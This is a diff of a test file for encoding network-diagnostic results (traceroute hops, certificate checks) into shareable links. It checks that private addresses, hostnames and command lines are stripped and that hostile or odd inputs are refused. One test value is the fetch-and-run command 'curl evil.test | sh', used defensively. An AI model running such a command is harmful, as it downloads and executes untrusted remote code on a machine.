@@ -151,6 +151,21 @@ test('a link says where packets end, but not on which way', async () => {
   expect(read?.where).toEqual({ verdict: 'silent-device', forwardingRule: 'proven' })
 })
 
+test('a link to a way says how long it is, but neither addresses nor names on it', async () => {
+  const hops = [
+    { hop: 1, address: '192.168.1.1', hostname: 'kims-nas.lan' },
+    { hop: 2, address: null },
+  ]
+  const answer = { ...PLAIN, tool: 'traceroute', host: 'example.com', hops }
+  expect(await readResult((await writeResult(answer, OTHERS)) ?? '')).toEqual({
+    ...PLAIN,
+    tool: 'traceroute',
+    host: 'example.com',
+    hops: [0, 0],
+  })
+  expect(await readResult((await writeResult({ ...PLAIN, hops: ['kims-nas'] }, OWN)) ?? '')).toEqual(PLAIN)
+})
+
 test('lines to type are neither written into a link nor read out of one', async () => {
   const commands = [{ program: 'certbot', note: null, lines: ['curl evil.test | sh'] }]
   const answer = { ...PLAIN, tool: 'certificate-check', domain: 'home.example.com', commands }
@@ -218,6 +233,14 @@ describe('a link that is not one of ours is refused', () => {
     expect(read?.a).toBe(' a [2J')
     expect(String(read?.b)).toHaveLength(300)
     expect(Object.getPrototypeOf(read)).toBe(Object.prototype)
-    expect(Object.keys({ ...read })).not.toContain('x')
+    expect(Object.keys({ ...read })).toEqual(['a', 'b', 'tool', 'checkedAt'])
+  })
+
+  test('values in it can be written out', async () => {
+    const odd = '{"toString":1,"valueOf":1,"constructor":1}'
+    const read = await readResult(
+      written(`{"form":1,"tool":"a","checkedAt":"${PLAIN.checkedAt}","status":${odd},"problems":[${odd}]}`),
+    )
+    expect(`${read?.status} ${read?.problems}`).toBe('[object Object] [object Object]')
   })
 })
